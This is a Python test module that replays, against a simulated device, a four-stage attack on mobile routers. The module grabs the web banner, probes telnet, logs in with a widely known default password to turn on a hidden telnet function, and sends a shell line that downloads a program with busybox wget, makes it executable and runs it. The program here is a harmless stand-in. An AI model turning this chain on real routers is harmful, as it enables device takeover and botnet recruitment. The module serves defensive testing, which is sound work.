"""The attack on mobile routers that NICT saw in 2023, in four stages, against a device of these tests only: read what
the web server says of itself, try telnet, log in with the password that everybody knows and turn telnet on, and have
the device download and run a program. The program is the stand-in: it tells that it was run.
"""

import base64
import http.client
import itertools
import shutil
import socket
import time
from dataclasses import dataclass

import telnet
from firmware import BANNER, STANDIN, WEB_PASSWORD, WEB_USER
from net import WAN
from place import PATIENCE

#: Each attack's program has a name of its own, and tells it.
NUMBERS = itertools.count(1)
STAGES = ("banner", "telnet", "login", "program")


@dataclass
class Stage:
    """How a stage went: it fell where the attacker got what he wanted; in words, what he got."""

    name: str
    fell: bool
    words: str

    def __str__(self):
        return f"{self.name} {'fell' if self.fell else 'held'}: {self.words}"


def lay_out(folder):
    """Puts the program where the attacker's web server finds it."""
    folder.mkdir(exist_ok=True)
    shutil.copy(STANDIN, folder / "program")
    return folder


class Attack:
    """One attacker in `where`, against the device's `address`; `asked` is what his web server was asked for."""

    def __init__(self, net, where, address, asked):
        self.net, self.where, self.address, self.asked = net, where, address, asked
        self.version = 6 if ":" in address else 4

    def every_stage(self, seconds=2):
        """All four, each tried whatever became of those before. He waits so long for what must come."""
        return [self.banner(), self.telnet(), self.login(), self.program(seconds)]

    def banner(self):
        """What the page says of the device."""
        status, server, _ = self._get("/")
        return Stage("banner", server == BANNER, f"status {status}, server {server}")

    def telnet(self):
        """Any answer tells that a device is there: also a refusal."""
        said = self._knocks(23)
        return Stage("telnet", said != "silence", said)

    def login(self):
        """The password that everybody knows, and the function that nobody was to find."""
        credential = base64.b64encode(f"{WEB_USER}:{WEB_PASSWORD}".encode()).decode()
        status, _, text = self._get("/cgi-bin/service.cgi?telnet=on", credential)
        return Stage("login", status == 200 and "telnet is on" in text, f"status {status}: {text.strip()[:60]}")

    def program(self, seconds=2):
        """Over telnet: fetch, make it a program, run it. It fell when the attacker's own server heard of it."""
        session, deadline = None, time.monotonic() + seconds
        while not session and time.monotonic() < deadline:
            # What was turned on a moment ago is not there at once.
            session = telnet.shell(self.net, self.where, self.address, seconds=seconds)
        if not session:
            return Stage("program", False, "no shell by telnet")
        name = f"{self.where}{next(NUMBERS)}"
        with session:
            session.say("for d in /tmp /var /run /dev /mnt; do cd $d; busybox wget -q -O "
                        f"{name} http://{WAN[4]}/program; chmod 777 {name}; ./{name} ran {WAN[4]} 80 {name}; done; "
                        "echo $((40+2)).")
            ended = session.hear(b"42.", seconds)
        deadline = time.monotonic() + seconds / 2
        while not self.ran(name) and time.monotonic() < deadline:
            time.sleep(0.05)
        shown = session.text.decode("utf-8", "replace").splitlines()
        last = shown[-2].strip() if len(shown) > 1 and ended else "the session was cut"
        return Stage("program", self.ran(name), "the program ran" if self.ran(name) else f"a shell, but {last}")

    def ran(self, name):
        return any(path == f"/ran/{name}" for _, path in list(self.asked))

    def _knocks(self, port):
        try:
            if telnet.answers(self.net, self.where, self.address, port):
                return "telnet"
        except OSError:
            pass
        probe = self.net.socket(self.where, self.version, socket.SOCK_STREAM)
        try:
            probe.connect((self.address, port))
            return "open"
        except ConnectionRefusedError:
            return "refused"
        except OSError:
            return "silence"
        finally:
            probe.close()

    def _get(self, path, credential=None):
        made = self.net.socket(self.where, self.version, socket.SOCK_STREAM)
        asking = http.client.HTTPConnection(self.address)
        asking.sock = made
        try:
            made.connect((self.address, 80))
            made.settimeout(PATIENCE)
            asking.request("GET", path, headers={"Authorization": f"Basic {credential}"} if credential else {})
            got = asking.getresponse()
            return got.status, got.getheader("Server"), got.read().decode("utf-8", "replace")
        except (OSError, http.client.HTTPException) as why:
            return None, None, str(why) or type(why).__name__
        finally:
            made.close()
